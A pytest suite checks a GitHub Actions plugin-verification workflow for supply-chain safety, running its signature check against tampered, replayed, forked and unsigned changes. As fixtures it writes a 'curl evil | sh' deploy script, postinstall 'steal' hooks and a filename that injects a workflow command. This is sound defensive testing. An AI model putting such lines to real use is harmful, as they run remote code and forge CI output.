"""The GitHub Actions workflows: schema-valid offline, and verify-plugin.yml is safe and works.

Every workflow file is validated against the GitHub workflow schema that check-jsonschema
vendors (no network). verify-plugin.yml is then checked for the properties its trust model
rests on, and its verification step is run for real with bash and git against a small
repository: a signed plugin passes, a tampered or partly signed one fails.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from bot import manifest
from tests.conftest import IN_CI

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = ROOT / ".github" / "workflows"
VERIFY_PLUGIN = WORKFLOWS / "verify-plugin.yml"
WORKFLOW_FILES = sorted([*WORKFLOWS.glob("*.yml"), *WORKFLOWS.glob("*.yaml")])

# Values a pull request controls; none may be interpolated into a shell script.
PR_CONTROLLED = re.compile(
    r"\$\{\{[^}]*\b(github\.event\.pull_request\.head\.|github\.head_ref"
    r"|github\.event\.pull_request\.(title|body)|github\.event\.(issue|comment))",
)


def load(path: Path) -> dict[str, Any]:
    data = yaml.safe_load(path.read_text())
    assert isinstance(data, dict)
    return data


def triggers(workflow: dict[str, Any]) -> Any:
    # YAML 1.1 reads the bare key `on` as the boolean True.
    return workflow.get("on", workflow.get(True))


def steps(workflow: dict[str, Any]) -> Iterator[dict[str, Any]]:
    for job in workflow["jobs"].values():
        yield from job.get("steps", [])


def step_named(workflow: dict[str, Any], prefix: str) -> dict[str, Any]:
    found = [s for s in steps(workflow) if str(s.get("name", "")).startswith(prefix)]
    assert len(found) == 1, f"expected one step named {prefix!r}"
    return found[0]


def checkouts(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    return [s for s in steps(workflow) if str(s.get("uses", "")).startswith("actions/checkout@")]


# ------------------------------------------------------------------------------- schema


def test_there_are_workflows() -> None:
    names = {path.name for path in WORKFLOW_FILES}
    assert {"ci.yml", "verify-plugin.yml"} <= names


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_workflow_matches_the_github_schema(path: Path) -> None:
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "check_jsonschema",
            "--builtin-schema",
            "vendor.github-workflows",
            str(path),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_the_schema_check_rejects_a_broken_workflow(tmp_path: Path) -> None:
    # The check is worth something only if it can fail.
    broken = tmp_path / "broken.yml"
    broken.write_text("on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps: 3\n")
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "check_jsonschema",
            "--builtin-schema",
            "vendor.github-workflows",
            str(broken),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode != 0


# ------------------------------------------------------------------ safety properties


@pytest.fixture(scope="module")
def workflow() -> dict[str, Any]:
    return load(VERIFY_PLUGIN)


def test_runs_on_pull_requests_touching_plugins(workflow: dict[str, Any]) -> None:
    on = triggers(workflow)
    assert set(on) == {"pull_request"}, "pull_request only: never pull_request_target"
    assert on["pull_request"]["paths"] == ["plugins/**"]


def test_token_is_read_only(workflow: dict[str, Any]) -> None:
    assert workflow["permissions"] == {"contents": "read"}
    for job in workflow["jobs"].values():
        assert job.get("permissions", {"contents": "read"}) == {"contents": "read"}


def test_no_secrets_are_used(workflow: dict[str, Any]) -> None:
    text = VERIFY_PLUGIN.read_text()
    assert not re.search(r"\$\{\{[^}]*\bsecrets\.", text)
    assert "GITHUB_TOKEN" not in text
    assert "github.token" not in text


def test_base_and_head_are_checked_out_apart(workflow: dict[str, Any]) -> None:
    by_path = {step["with"]["path"]: step["with"] for step in checkouts(workflow)}
    assert set(by_path) == {"base", "head"}
    assert by_path["base"]["ref"] == "${{ github.event.pull_request.base.sha }}"
    assert by_path["head"]["ref"] == "${{ github.event.pull_request.head.sha }}"
    # Credentials stay out of .git/config, where the plugin's code could read them.
    assert by_path["head"]["persist-credentials"] is False
    assert by_path["base"]["persist-credentials"] is False
    # The merge base must be in the head's history for the diff.
    assert by_path["head"]["fetch-depth"] == 0


def test_verifier_and_keys_come_from_the_base_checkout(workflow: dict[str, Any]) -> None:
    script = step_named(workflow, "Verify the changed plugin directories")["run"]
    assert 'verifier="$GITHUB_WORKSPACE/base/.github/plugin-bot/verify_manifest.py"' in script
    assert 'keys="$GITHUB_WORKSPACE/base/.github/plugin-bot/keys.json"' in script
    assert '"$verifier" verify' in script
    assert '--keys "$keys"' in script
    assert '--repository "$REPOSITORY"' in script
    assert '--plugin-path "$rel"' in script
    assert '"$verifier" subjects' in script
    # Nothing under head/ is executed as the verifier or read as keys.
    assert "head/.github" not in VERIFY_PLUGIN.read_text()


def test_no_pull_request_value_is_interpolated_into_a_script(workflow: dict[str, Any]) -> None:
    for step in steps(workflow):
        script = step.get("run")
        if script is None:
            continue
        assert not PR_CONTROLLED.search(script), step.get("name")
        # Stricter still: the scripts take every value from env.
        assert "${{" not in script, step.get("name")
    env = step_named(workflow, "Verify the changed plugin directories")["env"]
    assert env["HEAD_SHA"] == "${{ github.event.pull_request.head.sha }}"
    assert env["REPOSITORY"] == "${{ github.repository }}"


def test_no_plugin_code_runs_before_verification(workflow: dict[str, Any]) -> None:
    names = [str(step.get("name", step.get("uses", ""))) for step in steps(workflow)]
    verify = names.index("Verify the changed plugin directories")
    node = next(
        i
        for i, step in enumerate(steps(workflow))
        if str(step.get("uses", "")).startswith("actions/setup-node@")
    )
    build = names.index("Install, build and test the verified plugins")
    assert verify < node < build
    assert build == len(names) - 1, "the step that runs plugin code is the last one"
    for index, step in enumerate(steps(workflow)):
        if index < verify:
            assert "npm" not in str(step.get("run", ""))


def test_install_build_and_test_have_lifecycle_scripts_off(workflow: dict[str, Any]) -> None:
    step = step_named(workflow, "Install, build and test the verified plugins")
    script = step["run"]
    npm_lines = [line.strip() for line in script.splitlines() if line.strip().startswith("npm ")]
    assert npm_lines == [
        "npm ci --ignore-scripts &&",
        "npm run --ignore-scripts build &&",
        "npm run --ignore-scripts test -- --reporter=default --reporter=json \\",
    ]
    assert step["env"]["NPM_CONFIG_IGNORE_SCRIPTS"] == "true"
    assert not any("secret" in str(value).lower() for value in step["env"].values())
    node = next(
        s for s in steps(workflow) if str(s.get("uses", "")).startswith("actions/setup-node@")
    )
    assert str(node["with"]["node-version"]) == "20"


def test_cryptography_is_installed_with_a_pinned_range(workflow: dict[str, Any]) -> None:
    script = step_named(workflow, "Install the verifier's one dependency")["run"]
    assert re.search(r"'cryptography>=\d+,<\d+'", script)


# ------------------------------------------------- the verification step, run for real

REPOSITORY = "acme/agents"
PLUGIN = "plugins/weather plugin"  # a space, on purpose
FILES = {
    "package.json": '{"name": "plugin-weather"}\n',
    "src/index.ts": "export default {};\n",
    "test-results.json": '{"passed": 1, "failed": 0}\n',
}


def git(repo: Path, *args: str) -> str:
    return subprocess.run(
        [
            "git",
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "-c",
            "commit.gpgsign=false",
            *args,
        ],
        cwd=repo,
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
    ).stdout.strip()


BRANCH = "plugin-bot/job-42"


def predicate_for(
    base_commit: str, plugin_path: str = PLUGIN, version: str = "0.1.0", branch: str = BRANCH
) -> dict[str, Any]:
    """What the bot signs: bound to its pull request's base commit and branch."""
    return {
        "repository": REPOSITORY,
        "baseCommit": base_commit,
        "branch": branch,
        "plugin": {"name": "weather", "path": plugin_path, "version": version},
    }


def write_plugin(
    root: Path,
    key: Ed25519PrivateKey,
    base_commit: str,
    plugin_path: str = PLUGIN,
    version: str = "0.1.0",
    branch: str = BRANCH,
) -> None:
    root.mkdir(parents=True, exist_ok=True)
    for rel, text in FILES.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    manifest.write_manifest(root, predicate_for(base_commit, plugin_path, version, branch), key)


class Harness:
    """A GITHUB_WORKSPACE with base/ (keys and verifier) and head/ (a git repository)."""

    def __init__(self, tmp: Path, key: Ed25519PrivateKey) -> None:
        self.workspace = tmp / "workspace"
        self.runner_temp = tmp / "runner-temp"
        self.runner_temp.mkdir(parents=True)
        self.summary = tmp / "step-summary.md"
        trusted = self.workspace / "base" / ".github" / "plugin-bot"
        trusted.mkdir(parents=True)
        shutil.copy(ROOT / "bot" / "manifest.py", trusted / "verify_manifest.py")
        if (ROOT / "bot" / "paths.py").exists():  # the verifier loads the path rule from here
            shutil.copy(ROOT / "bot" / "paths.py", trusted / "plugin_paths.py")
        self.head_ref = BRANCH
        self.head_repository = REPOSITORY
        self.workflow = load(VERIFY_PLUGIN)

        (trusted / "keys.json").write_text(json.dumps([manifest.key_entry(key.public_key())]))
        self.head = self.workspace / "head"
        self.head.mkdir()
        git(self.head, "init", "-q", "-b", "main")
        (self.head / "README.md").write_text("agents\n")
        git(self.head, "add", "-A")
        git(self.head, "commit", "-q", "-m", "base")
        self.base_sha = git(self.head, "rev-parse", "HEAD")

    def commit(self) -> str:
        git(self.head, "add", "-A")
        git(self.head, "commit", "-q", "--allow-empty", "-m", "change")
        return git(self.head, "rev-parse", "HEAD")

    def merge_to_base(self) -> None:
        """What is committed now becomes the base branch: base/ is checked out from it."""
        self.base_sha = self.commit()
        base = self.workspace / "base"
        archive = subprocess.run(
            ["git", "archive", "--format=tar", self.base_sha],
            cwd=self.head,
            capture_output=True,
            check=True,
            timeout=60,
        ).stdout
        subprocess.run(["tar", "-x", "-C", str(base)], input=archive, check=True, timeout=60)

    def run(
        self,
        head_sha: str,
        step: str = "Verify the changed plugin directories",
        path_first: Path | None = None,
    ) -> subprocess.CompletedProcess[str]:
        script = step_named(self.workflow, step)["run"]
        first = f"{path_first}{os.pathsep}" if path_first is not None else ""
        env = {
            # The workflow's own env (PLUGINS_FOLDER), as the runner gives it to every step.
            **{name: str(value) for name, value in self.workflow.get("env", {}).items()},
            "PATH": f"{first}{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}",
            "GITHUB_STEP_SUMMARY": str(self.summary),
            "HOME": os.environ.get("HOME", "/tmp"),
            "GITHUB_WORKSPACE": str(self.workspace),
            "RUNNER_TEMP": str(self.runner_temp),
            "BASE_SHA": self.base_sha,
            "HEAD_SHA": head_sha,
            "HEAD_REF": self.head_ref,
            "HEAD_REPOSITORY": self.head_repository,
            "REPOSITORY": REPOSITORY,
        }
        return subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
            cwd=self.workspace,
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )

    def verified(self) -> list[str]:
        folder = self.runner_temp / "plugin-bot" / "verified"
        return sorted(p.read_text() for p in folder.glob("*.name"))


# Under CI=true a missing git or bash fails the tests instead of skipping them.
needs_git = pytest.mark.skipif(
    not IN_CI and (shutil.which("git") is None or shutil.which("bash") is None),
    reason="needs git and bash",
)


@pytest.fixture
def key() -> Ed25519PrivateKey:
    return Ed25519PrivateKey.generate()


@pytest.fixture
def harness(tmp_path: Path, key: Ed25519PrivateKey) -> Harness:
    return Harness(tmp_path, key)


@needs_git
def test_step_accepts_a_new_signed_plugin(harness: Harness, key: Ed25519PrivateKey) -> None:
    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
    result = harness.run(harness.commit())
    assert result.returncode == 0, result.stdout + result.stderr
    assert "VERIFIED" in result.stdout
    assert harness.verified() == ["weather plugin"]


@needs_git
def test_step_accepts_an_update_that_changes_some_files(
    harness: Harness, key: Ed25519PrivateKey
) -> None:
    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
    harness.merge_to_base()
    (harness.head / PLUGIN / "src" / "index.ts").write_text("export default { v: 2 };\n")
    manifest.write_manifest(
        harness.head / PLUGIN, predicate_for(harness.base_sha, version="0.2.0"), key
    )
    result = harness.run(harness.commit())
    assert result.returncode == 0, result.stdout + result.stderr


@needs_git
def test_step_refuses_a_changed_byte(harness: Harness, key: Ed25519PrivateKey) -> None:
    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
    (harness.head / PLUGIN / "src" / "index.ts").write_text("export default {};;\n")
    result = harness.run(harness.commit())
    assert result.returncode != 0
    assert "src/index.ts does not match its sha256" in result.stderr
    assert harness.verified() == []


@needs_git
def test_step_refuses_an_unsigned_extra_file(harness: Harness, key: Ed25519PrivateKey) -> None:
    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
    (harness.head / PLUGIN / "postinstall.js").write_text("steal()\n")
    result = harness.run(harness.commit())
    assert result.returncode != 0
    assert "postinstall.js" in result.stderr


@needs_git
def test_step_refuses_a_manifest_for_another_path(harness: Harness, key: Ed25519PrivateKey) -> None:
    write_plugin(harness.head / PLUGIN, key, harness.base_sha, plugin_path="plugins/other")
    result = harness.run(harness.commit())
    assert result.returncode != 0
    assert "made for plugin path 'plugins/other'" in result.stderr


@needs_git
def test_step_refuses_a_key_the_pull_request_adds(harness: Harness, key: Ed25519PrivateKey) -> None:
    # The pull request signs with its own key: only the base branch's keys count.
    own = Ed25519PrivateKey.generate()
    write_plugin(harness.head / PLUGIN, own, harness.base_sha)
    result = harness.run(harness.commit())
    assert result.returncode != 0
    assert "no signature verifies" in result.stderr


@needs_git
def test_step_refuses_a_keys_file_the_pull_request_changes(
    harness: Harness, key: Ed25519PrivateKey
) -> None:
    own = Ed25519PrivateKey.generate()
    write_plugin(harness.head / PLUGIN, own, harness.base_sha)
    keys = harness.head / ".github" / "plugin-bot" / "keys.json"
    keys.parent.mkdir(parents=True)
    keys.write_text(json.dumps([manifest.key_entry(own.public_key())]))
    result = harness.run(harness.commit())
    assert result.returncode != 0
    assert ".github/plugin-bot/keys.json is changed outside a plugin directory" in result.stdout
    assert harness.verified() == []


# ------------------------------------------- issue 8 point 5: replayed or widened PRs


@needs_git
def test_step_refuses_an_older_signed_plugin_put_back_over_a_newer_one(
    harness: Harness, key: Ed25519PrivateKey
) -> None:
    # v0.1.0 was merged, then v0.2.0; the pull request restores v0.1.0's signed files.
    write_plugin(harness.head / PLUGIN, key, harness.base_sha, version="0.1.0")
    harness.merge_to_base()
    old = {
        p.relative_to(harness.head / PLUGIN): p.read_bytes()
        for p in (harness.head / PLUGIN).rglob("*")
        if p.is_file()
    }
    (harness.head / PLUGIN / "src" / "index.ts").write_text("export default { v: 2 };\n")
    manifest.write_manifest(
        harness.head / PLUGIN, predicate_for(harness.base_sha, version="0.2.0"), key
    )
    harness.merge_to_base()
    for rel, data in old.items():
        (harness.head / PLUGIN / rel).write_bytes(data)
    result = harness.run(harness.commit())
    assert result.returncode != 0
    assert "made from base commit" in result.stderr and "replayed" in result.stderr
    assert harness.verified() == []


@needs_git
def test_step_refuses_a_version_that_does_not_go_up(
    harness: Harness, key: Ed25519PrivateKey
) -> None:
    # Bound to this pull request, correctly signed, but older than the base branch's.
    write_plugin(harness.head / PLUGIN, key, harness.base_sha, version="0.2.0")
    harness.merge_to_base()
    (harness.head / PLUGIN / "src" / "index.ts").write_text("export default { v: 1 };\n")
    manifest.write_manifest(
        harness.head / PLUGIN, predicate_for(harness.base_sha, version="0.1.0"), key
    )
    result = harness.run(harness.commit())
    assert result.returncode != 0
    assert "version 0.1.0 is not newer than 0.2.0" in result.stderr
    assert harness.verified() == []


@needs_git
def test_step_refuses_a_statement_made_for_another_branch(
    harness: Harness, key: Ed25519PrivateKey
) -> None:
    write_plugin(harness.head / PLUGIN, key, harness.base_sha, branch="plugin-bot/job-7")
    result = harness.run(harness.commit())
    assert result.returncode != 0
    assert "made for branch 'plugin-bot/job-7'" in result.stderr


@needs_git
def test_step_refuses_a_pull_request_from_a_fork(harness: Harness, key: Ed25519PrivateKey) -> None:
    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
    harness.head_repository = "mallory/agents"
    result = harness.run(harness.commit())
    assert result.returncode != 0
    assert "comes from mallory/agents" in result.stdout


@needs_git
def test_step_fails_on_unsigned_changes_outside_the_plugin_and_names_them(
    harness: Harness, key: Ed25519PrivateKey
) -> None:
    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
    (harness.head / "package.json").write_text('{"scripts": {"postinstall": "steal"}}\n')
    (harness.head / "scripts").mkdir()
    (harness.head / "scripts" / "deploy.sh").write_text("curl evil | sh\n")
    (harness.head / "plugins" / "evil.js").write_text("steal()\n")
    result = harness.run(harness.commit())
    assert result.returncode != 0
    for path in ("package.json", "scripts/deploy.sh", "plugins/evil.js"):
        assert f"::error::{path} is changed outside a plugin directory" in result.stdout
    assert "::warning::" not in result.stdout
    assert harness.verified() == []


@needs_git
def test_step_refuses_a_gitlink_the_manifest_cannot_see(
    harness: Harness, key: Ed25519PrivateKey
) -> None:
    # A submodule entry checks out as an empty directory, which no subject covers; only
    # the changed-files check sees it.
    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
    git(harness.head, "add", "-A")
    git(
        harness.head,
        "update-index",
        "--add",
        "--cacheinfo",
        f"160000,{harness.base_sha},{PLUGIN}/vendor",
    )
    git(harness.head, "commit", "-q", "-m", "with a gitlink")
    result = harness.run(git(harness.head, "rev-parse", "HEAD"))
    assert result.returncode != 0
    assert "vendor is changed but not a signed subject" in result.stdout


@needs_git
def test_step_skips_a_deleted_plugin(harness: Harness, key: Ed25519PrivateKey) -> None:
    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
    harness.merge_to_base()
    shutil.rmtree(harness.head / PLUGIN)
    result = harness.run(harness.commit())
    assert result.returncode == 0, result.stdout + result.stderr
    assert "is deleted by this pull request" in result.stdout
    assert harness.verified() == []


@needs_git
def test_step_needs_the_bot_installed_on_the_base(harness: Harness, key: Ed25519PrivateKey) -> None:
    (harness.workspace / "base" / ".github" / "plugin-bot" / "keys.json").unlink()
    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
    result = harness.run(harness.commit())
    assert result.returncode != 0
    assert "install plugin-bot" in result.stdout


@needs_git
def test_step_refuses_a_path_with_a_control_character(
    harness: Harness, key: Ed25519PrivateKey
) -> None:
    # Signed or not, a newline in a path could forge workflow commands or split lists.
    # (The signer refuses such names, so the file arrives unsigned beside a signed plugin.)
    root = harness.head / PLUGIN
    root.mkdir(parents=True)
    write_plugin(root, key, harness.base_sha)
    (root / "evil\n::warning::x").write_text("x\n")
    result = harness.run(harness.commit())
    assert result.returncode != 0
    assert "refusing a changed path with a control character" in result.stdout
    assert "\n::warning::x" not in result.stdout
    assert harness.verified() == []


# ------------------------------------------------------------------------------- job summary

# A stand-in for npm in the last step: `npm run test -- … --outputFile.json=PATH` writes
# vitest's JSON report there with the counts given here; install and build succeed.
FAKE_NPM = """#!/bin/sh
for arg in "$@"; do
  case "$arg" in
    --outputFile.json=*)
      printf '{"numTotalTests": 5, "numPassedTests": 4, "numFailedTests": 1}' \\
        > "${arg#--outputFile.json=}"
      exit 1 ;;
  esac
done
exit 0
"""


@needs_git
def test_summary_shows_keyid_subjects_and_digest_of_each_verified_plugin(
    harness: Harness, key: Ed25519PrivateKey
) -> None:
    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
    head = harness.commit()
    assert harness.run(head).returncode == 0
    result = harness.run(head, step="Write the verification summary")
    assert result.returncode == 0, result.stdout + result.stderr
    summary = harness.summary.read_text()
    digest = hashlib.sha256(
        (harness.head / PLUGIN / manifest.MANIFEST_FILE).read_bytes()
    ).hexdigest()
    keyid = manifest.keyid_of(key.public_key())
    # The name's space is reduced to "_": nothing from the pull request renders as Markdown.
    row = f"| `plugins/weather_plugin` | `{keyid}` | {len(FILES)} | `{digest}` |"
    assert row in summary.splitlines()
    assert "Repeat it locally: `plugin-bot verify plugins/<name>`" in summary


@needs_git
def test_summary_says_when_nothing_verified(harness: Harness, key: Ed25519PrivateKey) -> None:
    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
    (harness.head / PLUGIN / "src/index.ts").write_text("tampered\n")
    head = harness.commit()
    assert harness.run(head).returncode != 0
    result = harness.run(head, step="Write the verification summary")
    assert result.returncode == 0, result.stdout + result.stderr
    summary = harness.summary.read_text()
    assert "No plugin directory verified." in summary
    assert "`plugins/weather_plugin`" not in summary


@needs_git
def test_summary_shows_the_rerun_tests_counts_and_the_step_fails_on_a_failure(
    harness: Harness, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
    head = harness.commit()
    assert harness.run(head).returncode == 0
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "npm").write_text(FAKE_NPM)
    (bin_dir / "npm").chmod(0o755)
    result = harness.run(
        head, step="Install, build and test the verified plugins", path_first=bin_dir
    )
    assert result.returncode == 1, result.stdout + result.stderr
    summary = harness.summary.read_text()
    assert "Tests rerun for `plugins/weather_plugin`: 4 passed, 1 failed of 5." in summary


@needs_git
def test_the_onboarding_copy_for_another_folder_verifies_plugins_there_only(
    harness: Harness, key: Ed25519PrivateKey
) -> None:
    """The workflow offered to a repository whose config sets ``plugins_folder`` watches
    that folder, verifies plugins in it, and treats plugins/ as any other folder."""
    from bot.github.operations.onboarding import verify_workflow

    harness.workflow = yaml.safe_load(verify_workflow("packages/eliza"))
    assert triggers(harness.workflow)["pull_request"]["paths"] == ["packages/eliza/**"]
    plugin = "packages/eliza/weather plugin"
    write_plugin(harness.head / plugin, key, harness.base_sha, plugin_path=plugin)
    result = harness.run(harness.commit())
    assert result.returncode == 0, result.stdout + result.stderr
    assert harness.verified() == ["weather plugin"]

    write_plugin(harness.head / PLUGIN, key, harness.base_sha)
    result = harness.run(harness.commit())
    assert result.returncode != 0
    assert (
        "::error::plugins/weather plugin/package.json is changed outside a plugin directory; "
        "a plugin-bot pull request changes only packages/eliza/<name>/"
    ) in result.stdout
